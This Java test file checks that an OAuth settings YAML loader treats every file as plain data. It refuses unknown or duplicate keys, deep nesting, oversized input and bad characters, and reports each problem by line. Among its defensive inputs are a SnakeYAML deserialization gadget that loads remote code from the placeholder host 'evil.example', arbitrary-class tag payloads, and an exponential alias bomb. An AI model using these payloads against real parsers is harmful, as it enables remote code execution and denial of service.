package gatehouse.config;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import java.time.Duration;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** SPEC T4, acceptance E-05: whatever the file is, it is data. */
class SettingsYamlTest {
  private static final Duration SOON = Duration.ofSeconds(2);

  /** Says when somebody makes one of it. */
  @SuppressWarnings("StaticAssignmentInConstructor") // nobody has the object to ask
  public static final class Tripwire {
    static volatile boolean touched;

    public Tripwire() {
      touched = true;
    }

    public Tripwire(String text) {
      touched = true;
    }
  }

  static Stream<Arguments> faultyLines() {
    return Stream.of(
        Arguments.of("unknown key", "app_ip: x", "app_ip (line 4)"),
        Arguments.of("unknown key in another case", "App_Id: x", "App_Id (line 4)"),
        Arguments.of("file key of no secret", "app_id_file: x", "app_id_file (line 4)"),
        Arguments.of("duplicate key", "app_id: x", "app_id (line 4): is there twice"),
        Arguments.of("duplicate of a list", "scopes: a\nscopes: [b]", "scopes (line 5)"),
        Arguments.of("merge key", "<<: {app_id: x}", "a key (line 4)"),
        Arguments.of("key that is a list", "? [a, b]\n: c", "line 4"),
        Arguments.of("key that is a mapping", "? {a: b}\n: c", "line 4"),
        Arguments.of("key with a tag", "!!str scopes: c", "line 4"),
        Arguments.of("nested mapping", "scopes: {a: b}", "scopes (line 4)"),
        Arguments.of("nested block", "scopes:\n  a: b", "scopes (line 4)"),
        Arguments.of("list in a list", "scopes: [a, [b]]", "scopes (line 4)"),
        Arguments.of("alias", "scopes: &a x\ntime_zone: *a", "time_zone (line 5)"),
        Arguments.of("alias in a list", "scopes: [&a x, *a]", "scopes (line 4)"),
        Arguments.of("alias of a list", "time_zone: &a [UTC]\nscopes: *a", "scopes (line 5)"),
        Arguments.of("alias of nothing", "time_zone: *a", "line 4: is not readable"),
        Arguments.of("alias for a key", "&a time_zone: UTC\n*a : UTC", "has a key that is not"),
        Arguments.of("tag behind an anchor", "scopes: &a !!str x", "scopes (line 4)"),
        Arguments.of("tag of our own", "scopes: !<untagged> x", "scopes (line 4)"),
        Arguments.of("list with a tag", "scopes: !!set [a]", "scopes (line 4)"),
        Arguments.of("binary", "scopes: !!binary YQ==", "scopes (line 4)"),
        Arguments.of("tab before a key", "\ttime_zone: UTC", "line 4: is indented by a tab"),
        Arguments.of("tab in a list", "scopes:\n\t- a", "line 5: is indented by a tab"),
        Arguments.of("no colon", "time_zone\nprompt: login", "line 4: is not readable"),
        Arguments.of("open quote", "time_zone: 'UTC\nprompt: login", "line 4: is not readable"),
        Arguments.of("open list", "scopes: [a, b\n\n", "line "),
        Arguments.of("percent", "time_zone: %UTC", "line 4: is not readable"),
        Arguments.of("control character", "time_zone: U\u0001TC", "line 4: has a character"),
        Arguments.of("NUL", "time_zone: U\u0000TC", "line 4: has a character"),
        Arguments.of("bytes that were no UTF-8", "time_zone: \uFFFD", "line 4: has a character"),
        Arguments.of("second document", "---\napp_id: x", "line 4: begins a second document"));
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("faultyLines")
  void t4_isRefusedWithItsLine(String what, String lines, String expected) {
    assertThat(Operator.added(lines).problemTexts())
        .singleElement()
        .asString()
        .startsWith("WEB-INF/oauth_settings.yml, ")
        .contains(expected);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "app_id: !!gatehouse.config.SettingsYamlTest$Tripwire text",
        "app_id: !!gatehouse.config.SettingsYamlTest$Tripwire [text]",
        "app_id: !!gatehouse.config.SettingsYamlTest$Tripwire {}",
        "? !!gatehouse.config.SettingsYamlTest$Tripwire text\n: x",
        "!!gatehouse.config.SettingsYamlTest$Tripwire {}",
        "app_id: !!javax.script.ScriptEngineManager text",
        "app_id: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL"
            + " [\"https://evil.example/\"]]]]",
        "app_id: !<tag:yaml.org,2002:gatehouse.config.SettingsYamlTest$Tripwire> text",
        "%TAG ! tag:yaml.org,2002:gatehouse.config.\n---\napp_id: !SettingsYamlTest$Tripwire text",
      })
  void t4_tagsMakeNothing(String text) {
    Tripwire.touched = false;

    assertThat(Operator.wrote(text).problemTexts())
        .anyMatch(
            fault -> fault.startsWith("WEB-INF/oauth_settings.yml, ") && fault.contains("line"))
        .noneMatch(fault -> fault.contains("Tripwire"));
    assertThat(Tripwire.touched).isFalse();
  }

  @Test
  void t4_aliasBombIsRefusedAtItsFirstAlias() {
    StringBuilder bomb = new StringBuilder("a0: &a0 [lol, lol]\n");
    for (int i = 1; i < 30; i++) {
      bomb.append("a%d: &a%d [*a%d,*a%d,*a%d]\n".formatted(i, i, i - 1, i - 1, i - 1));
    }
    bomb.append("scopes: *a29\n");

    List<String> faults =
        assertTimeoutPreemptively(SOON, () -> Operator.added(bomb.toString()).problemTexts());

    assertThat(faults).hasSize(31).last().asString().contains("scopes (line 34)");
  }

  @ParameterizedTest
  @CsvSource({
    "'[',   5000, scopes (line 4): is nested deep",
    "'[',   60000, scopes (line 4): is nested deep",
    "'{a: ', 5000, scopes (line 4): is nested deep",
    "'- ',  5000, scopes (line 4): is nested deep",
    "'? ',  5000, scopes (line 4): is nested deep",
    "'? [', 5000, scopes (line 4): is nested deep",
    "'[&a x, *a, ', 5000, scopes (line 4): is nested deep",
  })
  void t4_deepNestingIsRefusedByKeyAndLine(String opening, int levels, String expected) {
    String deep = "scopes:\n  " + opening.repeat(levels);

    List<String> faults =
        assertTimeoutPreemptively(SOON, () -> Operator.added(deep).problemTexts());

    assertThat(faults).singleElement().asString().contains(expected);
  }

  @Test
  void t4_aKeyThatNestsDeepIsRefusedByItsLine() {
    assertThat(Operator.added("? " + "[".repeat(5000)).problemTexts())
        .singleElement()
        .asString()
        .contains("line 4: is nested deep");
  }

  @Test
  void t4_largeTextIsRefused() {
    assertThat(Operator.added("# " + "x".repeat(64 * 1024)).problemTexts())
        .containsExactly(
            "WEB-INF/oauth_settings.yml, the file: is larger than 64 KB; keep nothing but the"
                + " settings in it");
  }

  @ParameterizedTest
  @ValueSource(strings = {"- app_id\n- app_secret", "[a, b]", "app_id", "'app_id: x'", "!!map {}"})
  void t4_whatIsNoMappingIsRefused(String text) {
    assertThat(Operator.wrote(text).problemTexts())
        .containsExactly(
            "WEB-INF/oauth_settings.yml, line 1: is not a list of keys; write one `key: value` per"
                + " line");
  }

  @ParameterizedTest
  @ValueSource(strings = {"", " \n", "# only a comment", "---", "---\n...", "~", "null", "{}"})
  void t4_emptyFileSetsNothing(String text) {
    assertThat(Operator.wrote(text).problems())
        .extracting(SettingsProblem::where)
        .containsExactly("app_id (not set)", "app_secret (not set)", "redirect (not set)");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "\uFEFFapp_id: '007'\napp_secret: \"a: b\"\nredirect: http://localhost/callback",
        "app_id: 007\r\napp_secret: 'a: b'\r\nredirect: http://localhost/callback\r\n",
        "---\n\"app_id\": 007\napp_secret: >-\n  a: b\nredirect: http://localhost/callback\n...\n",
        "{app_id: 007, app_secret: 'a: b', redirect: \"http://localhost/callback\"}",
      })
  void t4_textStaysAsItIsWrittenInEveryForm(String text) throws SettingsException {
    Settings settings = Operator.wrote(text).loads();

    assertThat(settings.client().id()).isEqualTo("007");
    assertThat(Operator.secretOf(settings)).isEqualTo("a: b");
  }
}
